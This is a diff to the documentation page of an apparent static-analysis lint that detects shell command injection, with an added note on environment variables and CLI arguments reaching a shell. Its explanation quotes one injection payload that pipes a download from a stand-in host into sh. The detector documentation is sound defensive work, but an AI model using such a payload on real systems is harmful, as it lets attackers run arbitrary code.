@@ -21,6 +21,9 @@ const PAGE: &str = r#"## What it does
 Follows what a client sends to commands that a shell reads (`os.system`, `shell=True`, `sh -c`, `exec_command` over SSH), and to the name of the program that
 is run. What is only one argument in a list is told to auditors: many programs take options there (`--output=...`).
 
+Auditors are told, too, with low severity, where a variable of the environment becomes a part of what a shell reads, or what a command of the program was
+given (`sys.argv`, `argparse`, `click`, `typer`, `input()`) runs. A program that a variable names (`$EDITOR`) is meant.
+
 ## Why is this bad?
 
 Whoever sends `; curl evil.example | sh` runs programs with the rights of the application.
